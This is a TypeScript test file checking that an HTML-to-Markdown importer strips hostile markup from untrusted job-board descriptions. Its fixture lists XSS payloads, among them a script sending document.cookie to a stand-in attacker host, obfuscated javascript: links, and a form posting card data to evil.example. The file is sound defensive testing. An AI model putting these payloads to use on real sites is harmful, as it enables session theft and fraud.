import { describe, expect, it } from 'vitest';
import { htmlToMarkdown } from '../../src/import/html.ts';
import { checkBody, parseBody } from '../../src/check/body.ts';
import { parseMarkdown } from '../../src/lib/markdown.ts';
import type { Nodes } from 'mdast';

/** Every node of the Markdown as the site renders it. */
function nodes(markdown: string): Nodes[] {
  const all: Nodes[] = [];
  const walk = (node: Nodes) => {
    all.push(node);
    if ('children' in node) for (const child of node.children) walk(child as Nodes);
  };
  walk(parseMarkdown(markdown));
  return all;
}

const HOSTILE = [
  '<p onclick="steal()" style="position:fixed">Hello <b onmouseover="x()">world</b></p>',
  '<script>document.location="https://evil.example/?"+document.cookie</script>',
  '<style>body { display: none }</style>',
  '<img src="https://tracker.example/pixel.gif" onerror="alert(1)" alt="pixel">',
  '<a href="javascript:alert(1)">one</a> <a href=" JaVaScRiPt:alert(2)">two</a> <a href="jav&#x09;ascript:alert(3)">three</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">four</a> <a href="vbscript:msgbox(1)">five</a>',
  '<iframe src="https://evil.example/frame"></iframe><object data="x.swf"></object><embed src="x.swf">',
  '<svg onload="alert(1)"><script>alert(2)</script><text>svg text</text></svg>',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<p>Literal markup in text: &lt;script&gt;alert(1)&lt;/script&gt; and [link](javascript:alert(1)) and <code>&lt;img onerror=x&gt;</code></p>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math><template><p>hidden</p></template><noscript>nojs</noscript>',
  '<p><a href="https://jobs.example.com/apply" target="_blank" onclick="track()">Apply</a> or <a href="mailto:jobs@example.com">write</a></p>',
].join('\n');

describe('a description from a board, which is untrusted', () => {
  const markdown = htmlToMarkdown(HOSTILE);

  it('keeps the text and the safe links', () => {
    expect(markdown).toContain('Hello **world**');
    expect(markdown).toContain('[Apply](https://jobs.example.com/apply)');
    expect(markdown).toContain('[write](mailto:jobs@example.com)');
    expect(markdown).toMatch(/\bone\b.*\btwo\b.*\bthree\b/);
  });

  it('lets no script, style, event handler, frame, form, image or javascript: link through', () => {
    const all = nodes(markdown);
    expect(all.filter((n) => n.type === 'html')).toEqual([]);
    expect(all.filter((n) => n.type === 'image')).toEqual([]);
    const urls = all.filter((n) => n.type === 'link').map((n) => (n as { url: string }).url);
    expect(urls).toEqual(['https://jobs.example.com/apply', 'mailto:jobs@example.com']);
    expect(markdown).not.toMatch(/document\.cookie|display: none|svg text|hidden|nojs|onclick|tracker\.example/);
    // Markup written as text stays text: escaped, so the renderer makes no element or link of it.
    expect(markdown).toContain('\\<script>alert(1)\\</script>');
    expect(markdown).toContain('\\[link]\\(javascript:alert(1))');
  });

  it('passes the content check that every opening body gets', () => {
    const body = parseBody(markdown);
    const problems = checkBody(body, {
      file: 'x.md',
      path: '/x.md',
      bodyLine: 1,
      mdx: false,
      publicDir: 'public',
      page: () => undefined,
      ownIds: body.ids,
      sections: false,
    });
    expect(problems).toEqual([]);
  });

  it('fits headings under the page title and drops empty ones', () => {
    expect(htmlToMarkdown('<h1>About</h1><p>Text</p><h2></h2><h4>Skills</h4><ul><li>Go</li></ul><h3>Empty</h3>')).toBe(
      '## About\n\nText\n\n### Skills\n\n- Go\n',
    );
  });

  it('turns relative links, which would point into this site, into their text', () => {
    expect(htmlToMarkdown('<p>See <a href="/benefits">our benefits</a> and <a href="#apply">apply</a></p>')).toBe(
      'See our benefits and apply\n',
    );
  });

  it('is empty for a description with nothing readable', () => {
    expect(htmlToMarkdown('<script>alert(1)</script><p> </p>')).toBe('');
  });
});
